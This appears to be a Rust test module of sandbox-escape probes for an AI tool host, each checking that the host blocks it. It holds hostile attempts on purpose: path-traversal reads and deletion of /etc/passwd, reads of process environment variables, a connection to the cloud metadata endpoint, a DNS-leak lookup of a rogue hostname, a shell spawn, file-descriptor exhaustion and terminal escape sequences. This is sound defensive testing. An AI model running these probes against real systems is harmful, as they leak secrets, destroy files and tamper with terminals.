//! What can be seen and reached from inside. Each probe reports; nothing it reports may be news.

use footlight_sdk::prelude::*;
use serde_json::json;
use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream, ToSocketAddrs, UdpSocket};

fn said<T, E: std::fmt::Display>(result: Result<T, E>) -> String {
    match result {
        Ok(_) => "got in".to_owned(),
        Err(error) => error.to_string(),
    }
}

/// Reports environment, arguments and folders. The host promises that there are none.
#[tool(read_only)]
pub(crate) fn environment() -> serde_json::Value {
    let variables: Vec<String> = std::env::vars_os()
        .map(|pair| format!("{pair:?}"))
        .collect();
    let arguments: Vec<String> = std::env::args_os()
        .map(|word| format!("{word:?}"))
        .collect();
    json!({
        "variables": variables,
        "arguments": arguments,
        "directory": said(std::env::current_dir().and_then(std::fs::read_dir)),
        "program": said(std::env::current_exe()),
    })
}

/// Reads, writes, lists and links outside of any grant. The host promises that nothing gets in, and
/// that no error names a path of the host.
#[tool(read_only)]
pub(crate) fn files() -> serde_json::Value {
    let read = |path: &str| said(std::fs::read(path));
    json!({
        "absolute": read("/etc/passwd"),
        "climbing": read("../../../../../../etc/passwd"),
        "through dots": read("/./..//../etc/passwd"),
        "relative": read("Cargo.toml"),
        "process": read("/proc/self/environ"),
        "device": read("/dev/zero"),
        "with NUL": read("/etc/passwd\0.txt"),
        "root": said(std::fs::read_dir("/")),
        "here": said(std::fs::read_dir(".")),
        "write": said(std::fs::write("/tmp/rogue", "was here")),
        "create": said(std::fs::create_dir_all("/tmp/rogue/was/here")),
        "remove": said(std::fs::remove_file("/etc/passwd")),
        "rename": said(std::fs::rename("/etc/passwd", "/etc/passwd.old")),
        "link": said(std::fs::hard_link("/etc/passwd", "/tmp/rogue")),
        "metadata": said(std::fs::metadata("/")),
        "canonical": said(std::fs::canonicalize("/etc/../etc/passwd")),
    })
}

/// Case 12. Opens files without end and keeps them. The host promises that none opens: there is no
/// folder yet.
#[tool(read_only)]
pub(crate) fn open_files(#[arg(default = 10_000)] count: u32) -> usize {
    let files = (0..count).filter_map(|_| std::fs::File::open("/etc/passwd").ok());
    files.collect::<Vec<_>>().len()
}

/// Connects, listens, sends and resolves. The host promises that all of it is denied.
#[tool(open_world)]
pub(crate) fn sockets() -> serde_json::Value {
    let udp =
        UdpSocket::bind("0.0.0.0:0").and_then(|socket| socket.send_to(b"rogue", "127.0.0.1:53"));
    json!({
        "loopback": said(TcpStream::connect("127.0.0.1:80")),
        "loopback v6": said(TcpStream::connect("[::1]:80")),
        "metadata service": said(TcpStream::connect("169.254.169.254:80")),
        "world": said(TcpStream::connect("93.184.216.34:80")),
        "by name": said(TcpStream::connect("example.com:80")),
        "listen": said(TcpListener::bind("127.0.0.1:0")),
        "udp": said(udp),
        // A name is a message to whoever answers for it.
        "resolve": said("secret.rogue.example.com:80".to_socket_addrs()),
    })
}

/// Starts a process and a thread. The host promises neither.
#[tool]
pub(crate) fn spawn() -> serde_json::Value {
    json!({
        "process": said(std::process::Command::new("/bin/sh").arg("-c").arg("id").spawn()),
        "thread": said(std::thread::Builder::new().spawn(|| ()).map(std::thread::JoinHandle::join)),
    })
}

/// Fetches a URL that was asked for and not granted, or never asked for. The host promises `denied`,
/// with what the manifest asks for.
#[tool(open_world)]
pub(crate) fn fetch(
    stage: &Stage,
    #[arg(default = "https://api.example.com/")] url: String,
    #[arg(default = "GET")] method: String,
) -> Result<u16> {
    Ok(stage.http(Request::new(method, url))?.status())
}

/// Reads outputs by guessing ids. The host promises `expired` for each, known or not.
#[tool(read_only)]
pub(crate) fn guess_outputs(stage: &Stage) -> Vec<String> {
    [
        "out_1",
        "",
        "../out_1",
        "out_00000000000000000000000000",
        "\0",
    ]
    .map(|id| said(stage.read_output(id, u64::MAX, u32::MAX)))
    .to_vec()
}

/// Reports who it is told that it serves. The host promises words that open nothing.
#[tool(read_only)]
pub(crate) fn identities(stage: &Stage) -> serde_json::Value {
    json!({
        "call": stage.call_id(),
        "session": stage.session(),
        "person": stage.person(),
        "locale": stage.locale(),
        "timezone": stage.timezone(),
    })
}

/// Reports clock and randomness. The host promises the same answers when the call is replayed.
#[tool(read_only)]
pub(crate) fn clocks() -> serde_json::Value {
    use std::hash::{BuildHasher, RandomState};
    let started = std::time::Instant::now();
    json!({
        "now": format!("{:?}", std::time::SystemTime::now()),
        "passed": started.elapsed().as_nanos().to_string(),
        "random": RandomState::new().hash_one(1).to_string(),
    })
}

/// Reads stdin and writes stdout and stderr by hand. The host promises that the one is at its end
/// and that the others reach no terminal.
#[tool]
pub(crate) fn stdio() -> serde_json::Value {
    let mut word = [0; 16];
    json!({
        "read": format!("{:?}", std::io::stdin().read(&mut word)),
        "stdout": said(std::io::stdout().write_all(b"\x1b]52;c;cm9ndWU=\x07\xff\xfe")),
        "stderr": said(std::io::stderr().write_all(b"\x1b[?1049h\xff\xfe")),
    })
}
